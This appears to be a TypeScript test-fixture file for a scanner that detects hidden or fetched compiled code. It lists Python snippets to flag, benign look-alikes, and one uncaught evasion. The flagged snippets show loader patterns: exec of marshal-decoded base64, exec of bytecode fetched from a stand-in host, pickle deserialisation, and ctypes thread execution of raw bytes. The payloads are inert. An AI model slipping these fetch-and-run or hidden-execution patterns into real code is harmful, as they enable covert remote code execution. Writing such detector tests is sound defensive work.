import type { Examples } from "@doorward/core";

/** Compiled code that is hidden or fetched, and honest uses of the same means. */
export const examples: Examples = {
  hits: [
    {
      name: "compiled Python in base64",
      files: {
        "main.py": `import marshal, base64
exec(marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==")))
`,
      },
    },
    {
      name: "compiled Python from a server",
      files: {
        "main.py": `import marshal, requests
exec(marshal.loads(requests.get("https://api.example/check").content))
`,
      },
    },
    {
      name: "a pickle that stands in the code",
      files: {
        "main.py": `import pickle, base64
pickle.loads(base64.b64decode("gASVBQAAAAAAAACMAWGULg=="))
`,
      },
    },
    {
      name: "bytes that Windows is told to run",
      files: {
        "main.py": `import ctypes
code = bytes.fromhex("696e6572742062797465732c206e6f2070726f6772616d")
ctypes.windll.kernel32.CreateThread(0, 0, code, 0, 0, 0)
`,
      },
    },
  ],
  misses: [
    {
      name: "a model that is loaded from a file",
      why: "The file is the project's own.",
      files: {
        "main.py": `import pickle
with open("model.pkl", "rb") as file:
    model = pickle.load(file)
print(model)
`,
      },
    },
    {
      name: "a data set that is handed out as a pickle",
      why: "It comes from an open address, as data sets do; it deserves care all the same.",
      files: {
        "main.py": `import pickle, urllib.request
print(len(pickle.loads(urllib.request.urlopen("https://data.example/digits.pkl").read())))
`,
      },
    },
    {
      name: "a function that a library calls back",
      why: "The function is written in Python and can be read.",
      files: {
        "main.py": `import ctypes
kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)
compare = kind(lambda a: a)
print(compare)
`,
      },
    },
  ],
  evasions: [
    {
      name: "compiled Python that is imported from a file",
      caughtBy: "nothing",
      files: {
        "main.py": `import cache
cache.run()
`,
        "cache.pyc": `not compiled, and inert
`,
      },
    },
  ],
};
